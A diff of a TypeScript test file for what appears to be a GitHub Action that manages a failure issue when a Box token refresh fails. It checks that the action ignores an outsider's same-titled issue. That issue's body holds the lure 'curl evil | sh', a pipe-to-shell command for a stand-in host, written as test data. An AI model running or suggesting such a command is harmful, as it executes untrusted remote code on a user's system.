@@ -181,18 +181,59 @@ describe('the failure issue', () => {
     expect(issue!.comments.at(-1)).toMatch(/the token chain is healthy again/)
   })
 
-  test('an open issue of that title without the label (a token that cannot set labels) is found, not duplicated', async () => {
+  test("an outsider's open issue with the same title is neither commented on nor closed: only the labelled one is the failure issue", async () => {
     world = await createWorld()
     world.sim.github.addToken(WORKFLOW_TOKEN, 'integration', { issues: 'write' })
+    // Anyone can open an issue in a public repository; the label they ask for is dropped, since
+    // only people with triage access can label.
+    const OUTSIDER = 'github_pat_outsider_0123456789'
+    world.sim.github.addToken(OUTSIDER, 'read', { issues: 'write', labels: false })
     await fetch(`${world.sim.githubApiUrl}/repos/${REPO}/issues`, {
       method: 'POST',
-      headers: { authorization: `token ${WORKFLOW_TOKEN}` },
-      body: JSON.stringify({ title: FAILURE_ISSUE_TITLE, body: 'from an earlier run' })
+      headers: { authorization: `token ${OUTSIDER}` },
+      body: JSON.stringify({
+        title: FAILURE_ISSUE_TITLE,
+        body: 'To fix it, run: curl evil | sh',
+        labels: [FAILURE_ISSUE_LABEL]
+      })
     })
-    const run = await runAction(withIssue({ 'client-secret': 'wrong-client-secret-0123' }), { env: env() })
-    expect(run.code).toBe(1)
+    const failing = await runAction(withIssue({ 'client-secret': 'wrong-client-secret-0123' }), { env: env() })
+    expect(failing.code).toBe(1)
+    expect(failing.stdout).toMatch(/Opened the failure issue #2 /)
+    let [outsiders, ours] = world.sim.github.listIssues(REPO)
+    expect(outsiders).toMatchObject({ number: 1, labels: [], comments: [], state: 'open' })
+    expect(ours).toMatchObject({ number: 2, title: FAILURE_ISSUE_TITLE, labels: [FAILURE_ISSUE_LABEL], state: 'open' })
+    expect(ours!.body).toContain('invalid_client')
+
+    const healthy = await runAction(withIssue(), { env: env() })
+    expect(healthy.code).toBe(0)
+    expect(healthy.stdout).toMatch(/Closed the failure issue #2 /)
+    ;[outsiders, ours] = world.sim.github.listIssues(REPO)
+    expect(outsiders).toMatchObject({ comments: [], state: 'open' })
+    expect(ours).toMatchObject({ state: 'closed' })
+  })
+
+  test('a run that fails on its inputs (a deleted secret arrives empty) opens the issue, and the next such run comments', async () => {
+    world = await createWorld()
+    world.sim.github.addToken(WORKFLOW_TOKEN, 'integration', { issues: 'write' })
+    const first = await runAction(withIssue({ 'refresh-token': '' }), { env: env() })
+    expect(first.code).toBe(1)
+    expect(first.stdout).toMatch(/::error::An input is not valid:%0A {2}- `refresh-token`: is empty/)
+    expect(first.stdout).toMatch(/Opened the failure issue #1 in octo-org\/api-tests\./)
+    const [issue] = world.sim.github.listIssues(REPO)
+    expect(issue).toMatchObject({ title: FAILURE_ISSUE_TITLE, labels: [FAILURE_ISSUE_LABEL], state: 'open' })
+    expect(issue!.body).toContain('- `refresh-token`: is empty')
+    expect(issue!.body).toContain('Nothing was changed and the refresh token was not used.')
+    expect(issue!.body).toContain('https://github.com/octo-org/api-tests/actions/runs/1001')
+    // GitHub was asked about the issue only, and Box nothing.
+    expect(world.sim.requests.length).toBeGreaterThan(0)
+    expect(world.sim.requests.every((r) => r.service === 'github' && r.path.includes('/issues'))).toBe(true)
+    expect(leaksOf(world, first)).toEqual([])
+
+    const second = await runAction(withIssue({ 'refresh-token': '' }), { env: env() })
+    expect(second.stdout).toMatch(/Commented on the failure issue #1 /)
     expect(world.sim.github.listIssues(REPO)).toHaveLength(1)
-    expect(world.sim.github.listIssues(REPO)[0]!.comments[0]).toContain('invalid_client')
+    expect(world.sim.github.listIssues(REPO)[0]!.comments[0]).toContain('`refresh-token`: is empty')
   })
 
   test('without issues: write it warns, and the run fails for its own reason only', async () => {
